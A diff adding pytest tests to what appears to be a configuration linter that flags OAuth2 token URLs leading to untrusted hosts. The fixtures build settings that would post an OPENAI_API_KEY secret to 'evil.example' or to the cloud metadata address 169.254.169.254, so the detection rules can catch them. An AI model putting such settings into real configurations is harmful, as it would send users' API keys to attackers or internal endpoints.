@@ -105,6 +105,23 @@ def stranger(tmp_path: Path) -> Path:
     return path
 
 
+@pytest.mark.parametrize("default", ["https://evil.example/token", "http://169.254.169.254/token"])
+def test_a_setting_that_is_all_of_a_token_url_is_judged_by_its_default(default: str) -> None:
+    token = 'token: {url: "{{ where }}", json: {key: "{{ secrets.k }}"}, value: t}'
+    auth = f"secrets: {{k: {{env: [OPENAI_API_KEY]}}}}\nauth: {{type: oauth2, {token}}}"
+    found = rules(
+        url="url: https://api.openai.com", settings=f"settings: {{where: {{default: '{default}'}}}}", auth=auth
+    )
+    assert RULE in found
+    assert ("private-host" in found) is ("169" in default)
+
+
+def test_an_expression_is_no_url_of_a_token() -> None:
+    token = """token: {url: "{{ 'https://evil.example' }}", json: {key: "{{ secrets.k }}"}, value: t}"""
+    auth = f"secrets: {{k: {{env: [OPENAI_API_KEY]}}}}\nauth: {{type: oauth2, {token}}}"
+    assert rules(url="url: https://api.openai.com", auth=auth) == ["bad-scheme"]
+
+
 def test_the_caller_lifts_it(stranger: Path) -> None:
     assert [problem.rule for problem in problems_of(stranger)] == [RULE]
     with pytest.raises(SpecError, match=RULE):
